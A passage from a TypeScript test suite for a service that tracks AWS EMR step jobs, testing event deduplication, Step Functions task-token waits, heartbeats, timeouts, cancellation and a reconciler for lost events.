      if (draft.type === 'TIMEOUT') await g.tasks.observeStepEvent({ stepId: step.id, clusterId: CLUSTER, name: step.name, state: 'COMPLETED' });
      return append(chainId, draft, options);
    });
    expect(await poll(jobId, running)).toMatchObject({ done: true, status: 'COMPLETED' });
    expect(g.emr.count('cancel')).toBe(0);
    await expectJob(jobId, { status: 'COMPLETED' }, ['timedOut', 'cancelRequested']);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:RUNNING', 'COMPLETED']);
  });
});

describe('observeStepEvent (EMR Step Status Change)', () => {
  async function submitted(): Promise<{ jobId: string; stepId: string; name: string }> {
    const { jobId } = await accepted();
    await g.tasks.submit(g.input(jobId));
    const step = g.emr.steps.at(-1)!;
    return { jobId, stepId: step.id, name: step.name };
  }

  it("records the job's step's state once, whichever sees it first, the event or a poll", async () => {
    g.emr.nextScript = ['RUNNING', 'COMPLETED'];
    const { jobId, stepId, name } = await submitted();
    expect(await g.tasks.observeStepEvent({ stepId, clusterId: CLUSTER, name, state: 'RUNNING' })).toBe('RUNNING');
    expect(g.emr.count('describe')).toBe(0);
    expect(await g.tasks.observeStepEvent({ stepId, clusterId: CLUSTER, name, state: 'RUNNING' })).toBe('RUNNING');
    await poll(jobId, { done: false, status: 'RUNNING', waitSeconds: 15 }); // DescribeStep: RUNNING, already recorded
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:RUNNING']);
  });

  it('ignores a state EMR does not have: the job and its trail stay as they were', async () => {
    const { jobId, stepId, name } = await submitted();
    expect(await g.tasks.observeStepEvent({ stepId, clusterId: CLUSTER, name, state: 'BOGUS' })).toBe('SUBMITTED');
    expect((await g.jobs.get(jobId))?.status).toBe('SUBMITTED');
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED']);
  });

  it('an event and a poll racing on the same state record it once', async () => {
    g.emr.nextScript = ['RUNNING'];
    const { jobId, stepId, name } = await submitted();
    const previous = { done: false, status: 'SUBMITTED', waitSeconds: 15 } as const;
    const event = { stepId, clusterId: CLUSTER, name, state: 'RUNNING' };
    const outcomes = await Promise.all([poll(jobId, previous), g.tasks.observeStepEvent(event), poll(jobId, previous), g.tasks.observeStepEvent(event)]);
    expect(outcomes.map((o) => (typeof o === 'object' ? o.status : o))).toEqual(['RUNNING', 'RUNNING', 'RUNNING', 'RUNNING']);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:RUNNING']);
  });

  it("a terminal event is read back with DescribeStep, for EMR's details", async () => {
    g.emr.nextScript = ['FAILED'];
    g.emr.nextFailure = { reason: 'Unknown Error.', message: 'boom' };
    const { jobId, stepId, name } = await submitted();
    expect(await g.tasks.observeStepEvent({ stepId, clusterId: CLUSTER, name, state: 'FAILED' })).toBe('FAILED');
    expect(g.emr.count('describe')).toBe(1);
    expect((await job(jobId)).failureDetails).toEqual({ reason: 'Unknown Error.', message: 'boom' });
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED', 'FAILED']);
  });

  it('ignores events for any step but the one the job recorded, on its cluster', async () => {
    const { jobId, stepId, name } = await submitted();
    const ignored = [
      { stepId: 's-000000000999', clusterId: CLUSTER, name, state: 'RUNNING' }, // the job's marker on a step added by someone else
      { stepId, clusterId: PLAIN_CLUSTER, name, state: 'RUNNING' }, // the same step id on another cluster
      { stepId, clusterId: CLUSTER, state: 'RUNNING' }, // no name, no marker
    ];
    for (const detail of ignored) expect(await g.tasks.observeStepEvent(detail)).toBe(detail.name ? 'SUBMITTED' : undefined);
    expect(await g.tasks.observeStepEvent({ stepId, clusterId: CLUSTER, name: 'x [job-0123456789abcdefghjkmnpqrs]', state: 'RUNNING' })).toBeUndefined();
    expect(g.emr.calls.map((c) => c.operation)).toEqual(['add']);
    await expectJob(jobId, { status: 'SUBMITTED' }, ['emrState']);
    expect(await trail(jobId)).toEqual(['DECISION', 'SUBMITTED']);
  });

  it('cannot attach a step to a job that has none yet', async () => {
    const { jobId } = await accepted();
    expect(await g.tasks.observeStepEvent({ stepId: 's-000000000001', clusterId: CLUSTER, name: `nightly etl [${jobId}]`, state: 'RUNNING' })).toBe('ACCEPTED');
    await expectJob(jobId, { status: 'ACCEPTED' }, ['stepId']);
    expect(await trail(jobId)).toEqual(['DECISION']);
  });
});

describe('the wait for the step\'s end (WaitForStepEnd: a task token the step\'s end completes)', () => {
  async function waiting(token = 'token-1'): Promise<{ jobId: string; stepId: string; name: string }> {
    const { jobId } = await accepted();
    const submitted = await g.tasks.submit(g.input(jobId));
    const step = g.emr.steps.at(-1)!;
    expect(await g.tasks.watch({ ...g.input(jobId), poll: submitted, taskToken: token })).toMatchObject({ done: false, status: 'PENDING' });
    return { jobId, stepId: step.id, name: step.name };
  }
  const event = (w: { stepId: string; name: string }, state: string) => ({ stepId: w.stepId, clusterId: CLUSTER, name: w.name, state });

  it('looks at the step once, stores the token on the job; the terminal event records the end and completes the wait once, with the job\'s end', async () => {
    g.emr.nextScript = ['PENDING', 'COMPLETED'];
    const w = await waiting();
    expect((await job(w.jobId)).waitToken).toEqual({ token: 'token-1', at: g.clock.now().toISOString() });
    expect(await g.tasks.observeStepEvent(event(w, 'RUNNING'))).toBe('RUNNING');
    expect(g.callbacks.completed).toEqual([]); // an intermediate state is recorded, the wait goes on
    expect(await g.tasks.observeStepEvent(event(w, 'COMPLETED'))).toBe('COMPLETED');
    expect(g.callbacks.completed).toEqual([{ token: 'token-1', result: { jobId: w.jobId, done: true, status: 'COMPLETED', waitSeconds: 1, timeoutSeconds: 1, heartbeatSeconds: 3600 } }]);
    await expectJob(w.jobId, { status: 'COMPLETED' }, ['waitToken']);
    expect(await trail(w.jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:PENDING', 'STATE_CHANGED:RUNNING', 'COMPLETED']);
  });

  it('duplicated and out-of-order events complete it once and record nothing twice or backwards', async () => {
    g.emr.nextScript = ['PENDING', 'COMPLETED'];
    const w = await waiting();
    const outcomes = await Promise.all([g.tasks.observeStepEvent(event(w, 'COMPLETED')), g.tasks.observeStepEvent(event(w, 'COMPLETED'))]);
    expect(outcomes).toEqual(['COMPLETED', 'COMPLETED']);
    for (const late of ['RUNNING', 'PENDING', 'COMPLETED']) expect(await g.tasks.observeStepEvent(event(w, late))).toBe('COMPLETED');
    expect(g.callbacks.completed.map((c) => c.token)).toEqual(['token-1']);
    expect(await trail(w.jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:PENDING', 'COMPLETED']);
  });

  it('a crash between recording the end and completing the wait: the event delivered again completes it', async () => {
    g.emr.nextScript = ['PENDING', 'FAILED'];
    const w = await waiting();
    g.callbacks.failNext(new TransientError('StepFunctions SendTaskSuccess: ThrottlingException'));
    await expect(g.tasks.observeStepEvent(event(w, 'FAILED'))).rejects.toThrow(TransientError);
    await expectJob(w.jobId, { status: 'FAILED', waitToken: { token: 'token-1' } });
    expect(await g.tasks.observeStepEvent(event(w, 'FAILED'))).toBe('FAILED'); // EventBridge's retry
    expect(g.callbacks.completed).toEqual([{ token: 'token-1', result: expect.objectContaining({ done: true, status: 'FAILED' }) as unknown }]);
    await expectJob(w.jobId, { status: 'FAILED' }, ['waitToken']);
    expect(await trail(w.jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:PENDING', 'FAILED']);
  });

  it('an end that came while nobody waited (its event lost, or the stack stopped) is found as the wait begins', async () => {
    g.emr.nextScript = ['COMPLETED'];
    const { jobId } = await accepted();
    const submitted = await g.tasks.submit(g.input(jobId));
    expect(await g.tasks.watch({ ...g.input(jobId), poll: submitted, taskToken: 'first' })).toMatchObject({ done: true, status: 'COMPLETED' });
    expect(g.callbacks.completed.map((c) => c.token)).toEqual(['first']);
    await expectJob(jobId, { status: 'COMPLETED' }, ['waitToken']);
  });

  it('a job that ended before its wait began (its event came first) completes the wait at once', async () => {
    g.emr.nextScript = ['COMPLETED'];
    const { jobId } = await accepted();
    const submitted = await g.tasks.submit(g.input(jobId));
    const step = g.emr.steps.at(-1)!;
    await g.tasks.observeStepEvent({ stepId: step.id, clusterId: CLUSTER, name: step.name, state: 'COMPLETED' });
    expect(await g.tasks.watch({ ...g.input(jobId), poll: submitted, taskToken: 'late' })).toMatchObject({ done: true, status: 'COMPLETED' });
    expect(g.callbacks.completed).toEqual([{ token: 'late', result: expect.objectContaining({ done: true, status: 'COMPLETED' }) as unknown }]);
    await expectJob(jobId, { status: 'COMPLETED' }, ['waitToken']);
  });

  it('a new wait (after the previous one timed out) replaces the token, and only that one is completed', async () => {
    g.emr.nextScript = ['PENDING', 'RUNNING', 'RUNNING', 'COMPLETED'];
    const w = await waiting('first');
    g.callbacks.expire('first'); // its heartbeat timed out: PollStep looked, then a new wait began
    await poll(w.jobId, { done: false, status: 'SUBMITTED', waitSeconds: 15 });
    await g.tasks.watch({ ...g.input(w.jobId), poll: { done: false, status: 'RUNNING', waitSeconds: 15 }, taskToken: 'second' });
    await g.tasks.observeStepEvent(event(w, 'COMPLETED'));
    expect(g.callbacks.completed.map((c) => c.token)).toEqual(['second']);
  });

  it('the wait lasts until the deadline: its timeout is the time left, then none once the deadline is recorded', async () => {
    const { jobId } = await accepted(submitBody({ timeoutSeconds: 600 }));
    const submitted = await g.tasks.submit(g.input(jobId));
    expect(submitted.timeoutSeconds).toBe(600);
    g.clock.advance(590);
    expect((await poll(jobId, submitted)).timeoutSeconds).toBe(10);
    g.clock.advance(10);
    const timedOut = await poll(jobId, submitted); // the wait's timeout: TIMEOUT recorded, the step cancelled
    expect(timedOut).toMatchObject({ done: false, timeoutSeconds: 31_536_000 });
    expect(await trail(jobId)).toContain('TIMEOUT');
  });

  it('refuses to wait on a job with no step: nothing would ever end the wait', async () => {
    const { jobId } = await accepted();
    await expect(g.tasks.watch({ ...g.input(jobId), poll: { done: false, status: 'ACCEPTED', waitSeconds: 15 }, taskToken: 't' })).rejects.toThrow(/no EMR step to wait for/);
    await expectJob(jobId, { status: 'ACCEPTED' }, ['waitToken']);
  });

  describe('followWaiting (the reconciler: the fallback for lost events)', () => {
    it('sends the heartbeat even when EMR throttles that run\'s look at the step (the wait must not wake for it)', async () => {
      g.emr.nextScript = ['PENDING', 'RUNNING'];
      const w = await waiting();
      g.emr.failNext('describe', throttled());
      await expect(g.tasks.followWaiting(w.jobId)).rejects.toThrow(TransientError);
      expect(g.callbacks.heartbeats).toEqual(['token-1']);
    });

    it('a step still running: a heartbeat, and the wait goes on', async () => {
      g.emr.nextScript = ['PENDING', 'RUNNING'];
      const w = await waiting();
      expect(await g.tasks.followWaiting(w.jobId)).toBe('heartbeat');
      expect(g.callbacks.heartbeats).toEqual(['token-1']);
      await expectJob(w.jobId, { status: 'RUNNING', waitToken: { token: 'token-1' } });
    });

    it('a step that ended with its event lost: the end is recorded and the wait completed', async () => {
      g.emr.nextScript = ['PENDING', 'COMPLETED'];
      const w = await waiting();
      expect(await g.tasks.followWaiting(w.jobId)).toBe('completed');
      expect(g.callbacks.completed.map((c) => c.result.status)).toEqual(['COMPLETED']);
      await expectJob(w.jobId, { status: 'COMPLETED' }, ['waitToken']);
      expect(await trail(w.jobId)).toEqual(['DECISION', 'SUBMITTED', 'STATE_CHANGED:PENDING', 'COMPLETED']);
    });

    it('a token Step Functions no longer knows is dropped', async () => {
      g.emr.nextScript = ['PENDING', 'RUNNING'];
      const w = await waiting();
      g.callbacks.expire('token-1');
      expect(await g.tasks.followWaiting(w.jobId)).toBe('stale');
      await expectJob(w.jobId, { status: 'PENDING' }, ['waitToken']); // nobody waits on it: EMR is not asked
      expect(g.emr.count('describe')).toBe(1); // the wait's own look, no more
      expect(await g.tasks.followWaiting(w.jobId)).toBe('none');
    });

    it('a token that cannot be a task token (planted on the record: empty, or longer than the 2,048 characters Step Functions allows) is dropped, never sent', async () => {
      for (const planted of ['', 'x'.repeat(2049)]) {
        g = memoryGateway();
        g.emr.nextScript = ['PENDING', 'RUNNING'];
        const w = await waiting();
        await g.jobs.transition(w.jobId, (j) => ({ waitToken: { ...j.waitToken!, token: planted } }));
        expect(await g.tasks.followWaiting(w.jobId)).toBe('stale');
        expect({ heartbeats: g.callbacks.heartbeats, completed: g.callbacks.completed }).toEqual({ heartbeats: [], completed: [] });
        await expectJob(w.jobId, { status: 'PENDING' }, ['waitToken']);
        // Ended with such a token on it: the release drops it too, without a SendTaskSuccess Step Functions would refuse.
        await g.jobs.transition(w.jobId, () => ({ status: 'COMPLETED', waitToken: { token: planted, at: g.clock.now().toISOString() } }));
        expect(await g.tasks.followWaiting(w.jobId)).toBe('completed');
        expect(g.callbacks.completed).toEqual([]);
        await expectJob(w.jobId, { status: 'COMPLETED' }, ['waitToken']);
      }
    });

    it('sends a cancel the API could not', async () => {
      g.emr.nextScript = ['PENDING', 'RUNNING'];
      const w = await waiting();
      await g.jobs.transition(w.jobId, () => ({ cancelRequested: { by: ALICE, mode: 'SEND_INTERRUPT', at: g.clock.now().toISOString() } }));
      expect(await g.tasks.followWaiting(w.jobId)).toBe('heartbeat');
      expect(g.emr.count('cancel')).toBe(1);
      expect((await job(w.jobId)).cancelRequested?.sent).toBe(true);
    });
  });
});
